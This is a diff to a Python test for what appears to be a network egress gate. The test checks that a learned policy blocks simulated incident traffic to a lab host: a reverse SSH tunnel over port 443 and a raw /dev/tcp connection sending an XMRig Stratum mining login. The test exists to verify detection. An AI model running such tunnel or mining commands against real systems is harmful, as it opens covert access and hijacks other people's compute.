@@ -85,3 +85,21 @@ def test_learn_from_a_permissive_run_then_enforce_it(lab):
     other = run(lab, "lab-learn-3", learned, third_db,
                 f"getent hosts evil.lab || echo refused; {CURL} https://198.51.100.66/")
     assert other.stdout.split() == ["refused", "000"], other.stdout + other.stderr
+
+    # The incident's traffic under the learned purpose: a reverse tunnel over the learned
+    # host's 443 and a Stratum login to it are stopped by the gate before a byte leaves.
+    fourth_db = lab.dir / "fourth.db"
+    login = ('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x",'
+             '"agent":"XMRig/6.21.0"}}')
+    incident = run(lab, "lab-learn-4", learned, fourth_db,
+                   "ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no "
+                   "-N -R 9000:127.0.0.1:8080 -p 443 tunnel@pypi.lab; "
+                   f"timeout 3 bash -c 'exec 3<>/dev/tcp/pypi.lab/443; echo {json.dumps(login)} "
+                   ">&3; sleep 1; true'; true")
+    assert "2 blocked before their first payload left" in incident.stderr, incident.stderr
+    audit = subprocess.run([EGRESS, "audit", "--json", "--db", str(fourth_db)],
+                           capture_output=True, text=True)
+    stopped = {f["app"]: {x["id"] for x in f["findings"]}
+               for f in map(json.loads, audit.stdout.splitlines())
+               if f["kind"] == "flow" and f["dport"] == 443 and f["verdict"] == "block"}
+    assert "reverse-ssh-tunnel" in stopped["ssh"] and "mining-stratum" in stopped["stratum"]
